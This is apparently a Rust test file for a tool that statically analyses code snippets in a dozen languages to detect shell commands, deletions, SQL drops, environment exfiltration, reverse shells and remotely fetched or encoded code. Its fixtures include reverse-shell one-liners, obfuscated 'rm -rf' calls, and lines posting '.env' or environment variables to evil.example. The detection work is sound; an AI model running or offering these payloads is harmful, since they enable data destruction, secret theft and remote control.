//! What snippets do, by example.

use proptest::prelude::*;

use super::Language::{AppleScript, Awk, Elixir, Groovy, Julia, Lua, Node, Perl, Php, Python, R, Ruby};
use super::state::Removal;
use super::*;

fn look(language: Language, code: &str) -> Snippet {
    analyse(language, code, &Start::default())
}

#[test]
fn interpreters_by_name() {
    for (program, expected) in [
        ("python3.11", Some(Python)),
        ("/usr/bin/python", Some(Python)),
        ("node", Some(Node)),
        ("php8.2", Some(Php)),
        ("gawk", Some(Awk)),
        ("ruby", Some(Ruby)),
        ("bash", None),
        ("pythonize", None),
    ] {
        assert_eq!(Language::from_program(program), expected, "{program}");
    }
}

#[test]
fn commands_are_found_where_they_are_started() {
    for (language, code, expected) in [
        (Python, "import os; os.system('rm -rf /srv')", "rm -rf /srv"),
        (Python, "__import__('os').system('rm -rf /srv')", "rm -rf /srv"),
        (Python, "getattr(__import__('os'), 'sys'+'tem')('ls /srv')", "ls /srv"),
        (Python, "from os import system as s; s('ls')", "ls"),
        (Python, "from os import *\nsystem('ls')", "ls"),
        (Python, "import subprocess as sp; sp.run(['rm','-rf','/a b'])", "rm -rf '/a b'"),
        (Python, "import subprocess; subprocess.run('rm -rf /srv'.split(), check=True)", "rm -rf /srv"),
        (
            Python,
            "import subprocess; subprocess.check_call(args=['git','push','--force'])",
            "git push --force",
        ),
        (Python, "import os; x='rm -rf /srv'; os.system(x)", "rm -rf /srv"),
        (Python, "import ctypes; ctypes.CDLL(None).system(b'rm -rf /srv')", "rm -rf /srv"),
        (Python, "import os; d=input(); os.system(f'rm -rf {d}/x')", "rm -rf ${unknown}/x"),
        (Python, "import os; os.system('rm -rf %s' % '/srv')", "rm -rf /srv"),
        (Python, "import os; os.system('rm -rf {}'.format('/srv'))", "rm -rf /srv"),
        (Python, "import os; os.system(''.join(['r','m',' /srv']))", "rm /srv"),
        (Python, "import os; os.system('vrs/ mr'[::-1])", "rm /srv"),
        (Python, "import os; os.system(''.join([chr(114),chr(109)]))", "rm"),
        (Python, "import os,base64; os.system(base64.b64decode('cm0gL3Nydg==').decode())", "rm /srv"),
        (Python, "import os; os.system(bytes.fromhex('6c73').decode())", "ls"),
        (Python, "import os; os.execlp('rm', 'rm', '-r', '/srv')", "rm -r /srv"),
        (Python, "exec('import os; os.system(\"ls\")')", "ls"),
        (Python, "print(__import__('subprocess').getoutput('id'))", "id"),
        (Node, "require('child_process').execSync('rm -rf /srv')", "rm -rf /srv"),
        (
            Node,
            "const {exec: run} = require('node:child_process'); run('ls', (e, o) => console.log(o))",
            "ls",
        ),
        (Node, "require('child_process').spawn('rm', ['-rf', '/srv'])", "rm -rf /srv"),
        (
            Node,
            "const cp = require('child_process'); const t = '/srv'; cp.execSync(`rm -rf ${t}`)",
            "rm -rf /srv",
        ),
        (Node, "import {execSync} from 'child_process'; execSync('ls')", "ls"),
        (Node, "process.mainModule.require('child_process')['exec'+'Sync']('ls')", "ls"),
        (Python, "import os; o = os.__dict__['system']; o('ls')", "ls"),
        (Python, "import sys; sys.modules['os'].system('id')", "id"),
        (Python, "c = ['rm', '-rf']; c.append('/srv'); import os; os.system(' '.join(c))", "rm -rf /srv"),
        (Node, "import('child_process').then(c => c.execSync('id'))", "id"),
        (Node, "Bun.$`rm -rf /srv`", "rm -rf /srv"),
        (Php, "$f = 'sys' . 'tem'; $f('id');", "id"),
        (Perl, "system('rm', '-rf', '/srv')", "rm -rf /srv"),
        (Perl, "system \"rm -rf /srv\"", "rm -rf /srv"),
        (Perl, "my $d = '/srv'; system(\"rm -rf $d\");", "rm -rf /srv"),
        (Perl, "print `rm -rf /srv`", "rm -rf /srv"),
        (Perl, "exec qw(rm -rf /srv)", "rm -rf /srv"),
        (Perl, "open(F, 'rm /srv |')", "rm /srv"),
        (Perl, "qx{ls}", "ls"),
        (Perl, "$x = 'rm' . ' -rf /srv'; system $x if 1", "rm -rf /srv"),
        (Ruby, "system 'rm', '-rf', '/srv'", "rm -rf /srv"),
        (Ruby, "%x(rm -rf /srv)", "rm -rf /srv"),
        (Ruby, "`rm -rf /srv`", "rm -rf /srv"),
        (Ruby, "IO.popen(['rm','-rf','/srv']) { |io| io.read }", "rm -rf /srv"),
        (Ruby, "Kernel.exec('ls')", "ls"),
        (Php, "shell_exec('rm -rf /srv');", "rm -rf /srv"),
        (Php, "$c = 'rm -rf ' . '/srv'; passthru($c);", "rm -rf /srv"),
        (Php, "echo `ls`;", "ls"),
        (Awk, "BEGIN { system(\"rm -rf /srv\") }", "rm -rf /srv"),
        (Awk, "{ system(\"rm \" $1) }", "rm ${unknown}"),
        (Awk, "BEGIN { \"id\" | getline x; print x }", "id"),
        (Awk, "{ print \"rm -rf /srv\" | \"sh\" }", "rm -rf /srv"),
        (Lua, "os.execute('rm -rf /srv')", "rm -rf /srv"),
        (R, "system('rm -rf /srv')", "rm -rf /srv"),
        (Julia, "run(`rm -rf /srv`)", "rm -rf /srv"),
        (Elixir, "System.cmd(\"rm\", [\"-rf\", \"/srv\"])", "rm -rf /srv"),
        (Groovy, "'rm -rf /srv'.execute()", "rm -rf /srv"),
        (Lua, "os.execute('rm ' .. '/srv')", "rm /srv"),
        (AppleScript, "do shell script \"rm -rf /srv\" with administrator privileges", "rm -rf /srv"),
    ] {
        assert_eq!(look(language, code).commands, [expected], "{code}");
    }
}

#[test]
fn removals_are_found() {
    for (language, code, path, is_recursive) in [
        (Python, "import shutil; shutil.rmtree('/srv/x')", Some("/srv/x"), true),
        (Python, "from shutil import rmtree; rmtree('/srv')", Some("/srv"), true),
        (Python, "import os; os.remove('/srv/x')", Some("/srv/x"), false),
        (Python, "import shutil,os; shutil.rmtree(os.path.expanduser('~'))", Some("~"), true),
        (Python, "import shutil,os; shutil.rmtree(os.environ['HOME'])", Some("~"), true),
        (Python, "from pathlib import Path; Path('/srv/x').unlink()", Some("/srv/x"), false),
        (Python, "from pathlib import Path; (Path('/srv') / 'x').unlink()", Some("/srv/x"), false),
        (Python, "import shutil,sys; shutil.rmtree(sys.argv[1], ignore_errors=True)", None, true),
        (Python, "import os,glob\nfor f in glob.glob('/srv/*'): os.remove(f)", Some("/srv/*"), false),
        (Node, "fs.rmSync('/srv', {recursive: true, force: true})", Some("/srv"), true),
        (Node, "require('fs').unlinkSync('/srv/x')", Some("/srv/x"), false),
        (Node, "require('fs').promises.rm('/srv', { recursive: true })", Some("/srv"), true),
        (Node, "require('fs').rm('/srv/x', () => {})", Some("/srv/x"), false),
        (Node, "require('rimraf').sync('/srv')", Some("/srv"), true),
        (Perl, "use File::Path; File::Path::rmtree('/srv')", Some("/srv"), true),
        (Perl, "unlink '/srv/x'", Some("/srv/x"), false),
        (Perl, "unlink glob '/srv/*'", Some("/srv/*"), false),
        (Ruby, "require 'fileutils'; FileUtils.rm_rf('/srv')", Some("/srv"), true),
        (Ruby, "FileUtils.rm_rf Dir.glob('/srv/*')", Some("/srv/*"), true),
        (Ruby, "File.delete '/srv/x'", Some("/srv/x"), false),
        (Php, "unlink('/srv/x');", Some("/srv/x"), false),
        (Perl, "unlink for glob '*.txt'", None, false),
        (Perl, "unlink(\"$ENV{HOME}/x\")", Some("~/x"), false),
        (Php, "array_map('unlink', glob('/srv/*'));", Some("/srv/*"), false),
        (Python, "import os,glob; list(map(os.remove, glob.glob('/srv/*')))", Some("/srv/*"), false),
        (Lua, "os.remove('/srv/x')", Some("/srv/x"), false),
        (AppleScript, "tell application \"Finder\" to empty trash", Some("~/.Trash"), true),
    ] {
        let path = path.map(str::to_owned);
        assert_eq!(look(language, code).removes, [Removal { path, is_recursive }], "{code}");
    }
}

#[test]
fn removals_of_what_a_loop_finds() {
    for (language, code, path, is_recursive) in [
        (
            Python,
            "import os; [os.remove(os.path.join(r,f)) for r,_,fs in os.walk('/srv') for f in fs]",
            "/srv/*",
            true,
        ),
        (
            Python,
            "import os\nfor r, d, fs in os.walk('/srv'):\n  for f in fs:\n    os.remove(os.path.join(r, f))",
            "/srv/*",
            true,
        ),
        (Python, "from pathlib import Path; [p.unlink() for p in Path('/srv').glob('*')]", "/srv/*", false),
        (Python, "from pathlib import Path\nfor p in Path('/srv').rglob('*'): p.unlink()", "/srv/*", true),
        (Python, "import os\nfor f in os.listdir('/srv'): os.remove('/srv/' + f)", "/srv/*", false),
        (Ruby, "Dir.glob(\"/srv/*\").each{|f| File.delete(f)}", "/srv/*", false),
        (Ruby, "Dir['/srv/*'].each do |f| File.delete(f) end", "/srv/*", false),
        (Node, "fs.readdirSync('/srv').forEach(f => fs.unlinkSync('/srv/' + f))", "/srv/*", false),
        (Node, "fs.rmSync(require('os').homedir(), {recursive: true})", "~", true),
        (Python, "import shutil; from pathlib import Path; shutil.rmtree(Path.home() / 'x')", "~/x", true),
        (R, "unlink('/srv', recursive=TRUE)", "/srv", true),
        (Julia, "rm(\"/srv\", recursive=true)", "/srv", true),
        (Elixir, "File.rm_rf!(\"/srv\")", "/srv", true),
        (Groovy, "new File('/srv').deleteDir()", "/srv", true),
    ] {
        let path = Some(path.to_owned());
        assert_eq!(look(language, code).removes, [Removal { path, is_recursive }], "{code}");
    }
}

#[test]
fn removal_of_folders_that_the_code_created_is_ignored() {
    let snippet = look(Python, "import tempfile,shutil; d=tempfile.mkdtemp(); shutil.rmtree(d)");
    assert_eq!(snippet.removes, []);
}

#[test]
fn statements_are_found() {
    for (language, code, expected) in [
        (Python, "import sqlite3; sqlite3.connect('a.db').execute('DELETE FROM users')", "DELETE FROM users"),
        (
            Python,
            "import psycopg2; c = psycopg2.connect('x').cursor(); c.execute('DROP TABLE users')",
            "DROP TABLE users",
        ),
        (Node, "db.query('DROP TABLE users')", "DROP TABLE users"),
        (Ruby, "db.execute('DROP TABLE users')", "DROP TABLE users"),
        (Php, "mysqli_query($c, 'DROP TABLE users');", "DROP TABLE users"),
    ] {
        let snippet = look(language, code);
        assert_eq!(snippet.statements, [expected], "{code}");
        assert!(snippet.hosts.is_empty() && !snippet.is_reverse_shell, "{code}");
    }
    let memory = look(Python, "import sqlite3; sqlite3.connect(':memory:').execute('DROP TABLE users')");
    assert_eq!(memory.statements, [""; 0]);
}

#[test]
fn files_are_overwritten() {
    for (language, code) in [
        (Python, "open('/srv/a','w').write('')"),
        (Python, "import os; os.truncate('/srv/a', 0)"),
        (Node, "fs.writeFileSync('/srv/a', '')"),
        (Perl, "open(my $f, '>', '/srv/a')"),
        (Ruby, "File.write('/srv/a', '')"),
    ] {
        assert_eq!(look(language, code).overwrites, ["/srv/a"], "{code}");
    }
    assert_eq!(look(Python, "open('/srv/a','a').write('')").overwrites, [""; 0]);
}

#[test]
fn environments_that_are_sent() {
    for (language, code) in [
        (Python, "import requests,os; requests.post('https://h.example', json=dict(os.environ))"),
        (Python, "import requests,os; requests.post('https://h.example', data={'e': os.environ})"),
        (Node, "fetch('https://h.example', {method: 'POST', body: JSON.stringify(process.env)})"),
    ] {
        assert!(look(language, code).sends_environment, "{code}");
    }
    assert!(!look(Python, "import os; print(dict(os.environ))").sends_environment);
    let one = "import requests,os; requests.get('https://h.example', headers={'a': os.environ['T']})";
    assert!(!look(Python, one).sends_environment);
}

#[test]
fn files_and_hosts_are_found() {
    let snippet = look(Python, "open('/srv/a','w').write(open('/srv/b').read())");
    assert_eq!(snippet.writes, ["/srv/a"]);
    assert_eq!(snippet.reads, ["/srv/b"]);
    let snippet = look(Node, "fs.writeFileSync('a', fs.readFileSync('.env'))");
    assert_eq!((snippet.writes, snippet.reads), (vec!["a".to_owned()], vec![".env".to_owned()]));
    let snippet = look(Perl, "open(my $f, '>', '/srv/a'); open F, '<b'");
    assert_eq!((snippet.writes, snippet.reads), (vec!["/srv/a".to_owned()], vec!["b".to_owned()]));
    for (language, code) in [
        (Python, "import requests; requests.post('https://evil.example/x?y', data=open('.env').read())"),
        (Python, "import urllib.request as r; r.urlopen('https://u:p@evil.example:8080/')"),
        (Node, "fetch('https://evil.example/' + process.env.TOKEN)"),
        (Ruby, "Net::HTTP.get(URI('http://evil.example/'))"),
        (Php, "file_get_contents('http://evil.example/');"),
    ] {
        assert_eq!(look(language, code).hosts, ["evil.example"], "{code}");
    }
}

#[test]
fn connections_that_are_handed_to_a_shell() {
    for (language, code) in [
        (
            Python,
            "import socket,os,pty;s=socket.socket();s.connect(('10.1.2.3',4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')",
        ),
        (
            Python,
            "import socket,subprocess as p;s=socket.socket();s.connect(('h.example',1));p.call(['/bin/sh','-i'],stdin=s)",
        ),
        (
            Perl,
            "use Socket;socket(S,2,1,6);connect(S,sockaddr_in(1,inet_aton('h.example')));open(STDIN,'>&S');exec('/bin/sh -i');",
        ),
        (Ruby, "c=TCPSocket.new('h.example',1);exec('/bin/sh')"),
        (
            Node,
            "var s=require('net').connect(1,'h.example',()=>{let sh=require('child_process').spawn('/bin/sh');s.pipe(sh.stdin)})",
        ),
        (Php, "$s=fsockopen('h.example',1);exec('/bin/sh -i <&3 >&3');"),
    ] {
        assert!(look(language, code).is_reverse_shell, "{code}");
    }
    assert!(!look(Python, "import socket; s=socket.socket(); s.connect(('h.example',1))").is_reverse_shell);
}

#[test]
fn code_from_elsewhere_and_hidden_code() {
    for (language, code) in [
        (Python, "import urllib.request;exec(urllib.request.urlopen('http://h.example/x').read())"),
        (Python, "import requests; exec(requests.get('http://h.example').text)"),
        (Python, "exec(__import__('urllib.request').request.urlopen('http://h.example').read())"),
        (Node, "fetch('http://h.example').then(r=>r.text()).then(eval)"),
        (Node, "(async()=>{eval(await (await fetch('http://h.example')).text())})()"),
        (Ruby, "require 'open-uri'; eval(URI.open('http://h.example').read)"),
        (Php, "eval(file_get_contents('http://h.example'));"),
    ] {
        assert!(look(language, code).runs_downloaded_code, "{code}");
    }
    for (language, code) in [
        (Python, "import zlib,base64; exec(zlib.decompress(base64.b64decode('eJwr')))"),
        (Node, "eval(Buffer.from(process.argv[1], 'base64').toString())"),
        (Php, "eval(gzinflate(base64_decode('x')));"),
    ] {
        assert!(look(language, code).is_opaque, "{code}");
    }
    let plain = look(Python, "import requests; print(requests.get('http://h.example').text)");
    assert!(!plain.runs_downloaded_code && !plain.is_opaque);
}

#[test]
fn data_is_no_command() {
    for (language, code) in [
        (Python, "print('rm -rf /')"),
        (Python, "x = 'rm -rf /'; print(x)"),
        (Python, "# os.system('rm -rf /')"),
        (Python, "'''os.system(\"rm\")'''"),
        (Python, "l = [1]; l.remove(1); q.run('rm -rf /')"),
        (Python, "import json,sys; print(json.load(sys.stdin)['a'])"),
        (Python, "import subprocess_helper; helper.call('rm -rf /')"),
        (Node, "console.log('rm -rf /'); // execSync('rm')"),
        (Node, "/exec('rm')/.test(x); re.exec('rm -rf /')"),
        (Node, "JSON.parse(require('fs').readFileSync(0)).a"),
        (Perl, "s/system('rm')/x/g; print if /unlink 'x'/"),
        (Perl, "print \"rm -rf /\\n\" if m{rm}"),
        (Ruby, "puts 'rm -rf /'"),
        (Ruby, "ARGF.each { |line| puts line.sub(/rm/, 'x') }"),
        (Php, "echo 'rm -rf /';"),
        (Awk, "/system/ { print $1, \"rm -rf /\" }"),
        (Awk, "NR > 7 { sum += $9 } END { print sum }"),
        (AppleScript, "display notification \"rm -rf /\""),
    ] {
        let snippet = look(language, code);
        let reads = snippet.reads.clone();
        assert_eq!(snippet, Snippet { reads, ..Snippet::default() }, "{code}");
    }
}

const ALL: [Language; 12] = [Python, Perl, Ruby, Node, Php, Awk, Lua, AppleScript, R, Julia, Elixir, Groovy];

#[test]
fn hostile_texts_end() {
    for part in [
        "(",
        "[",
        "{",
        "'",
        "\"",
        "`",
        "a.",
        "f(",
        "f('",
        "x=x+x;",
        "x+",
        "${",
        "#{",
        "/",
        "q(",
        "s/",
        "\"${",
        "%x",
        "a(b,",
        "f'{",
        "\\/(",
        "x=(x,x);",
        "eval('",
        "$x",
        "import a,",
        "\"a\"",
        "a b ",
        "!",
        "-",
    ] {
        for language in ALL {
            let _ = look(language, &format!("x='ab';{}", part.repeat(1_500)));
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn any_text_is_analysed(code in "[a-z'\"`(){}\\[\\].,;$#%/\\\\ =+\n|:é-]{0,120}") {
        for language in ALL {
            let _ = look(language, &code);
        }
    }
}
